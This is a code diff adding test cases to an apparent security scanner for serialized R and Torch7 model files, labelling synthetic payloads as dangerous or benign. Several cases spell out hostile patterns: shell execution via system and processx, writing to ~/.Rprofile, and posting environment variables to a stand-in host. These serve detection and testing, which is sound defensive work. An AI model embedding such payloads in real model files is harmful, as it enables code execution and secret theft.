@@ -44,6 +44,15 @@ def _high(data: bytes, name: str) -> bool:
         (rds(closure(call("system.file", texts("x")))), False),
         (rds(closure(call("eval", call("parse", texts("y ~ x"))))), False),
         (rds(closure(call("download.file", texts("https://zenodo.org/x"), texts("x")))), False),
+        (rds(closure(call("do.call", texts("rbind")))), False),
+        (rds(closure(call("~", symbol("y"), symbol("system")))), False),
+        (rds(closure(call("do.call", texts("system"), call("list", texts("echo"))))), True),
+        (rds(closure(call("lapply", texts("echo"), symbol("system")))), True),
+        (rds(closure(call("eval", call("parse", texts("system('echo')"))))), True),
+        (rds(closure(call("cat", texts("x", "~/.Rprofile")))), True),
+        (rds(closure(call("POST", texts("https://x.example"), call("Sys.getenv")))), True),
+        (rds(closure(call(call("::", symbol("processx"), symbol("run")), texts("sh")))), True),
+        (rds(closure(call("run", texts("model")))), False),
         (rds(closure(SYSTEM)), True),
         (gzip.compress(rds(closure(SYSTEM))), True),
         (rdata("predict.model", closure(SYSTEM)), True),
@@ -82,6 +91,8 @@ def test_what_ends_early_is_a_gap(data: bytes) -> None:
 def test_functions_of_lua() -> None:
     assert not _high(torch7(), "net.t7")
     assert not _high(torch7(b"\x1bLJ\x02\x0a\0forward\0cmul"), "net.t7")
+    assert not _high(torch7(b"\x1bLua\x51\0os\0clock\0"), "net.t7")
+    assert _high(torch7(b"\x1bLJ\x02\x0a\0open\0io\0"), "net.t7")
     assert _high(torch7(b"\x1bLua\x51\0io\0popen\0"), "net.t7")
 
 
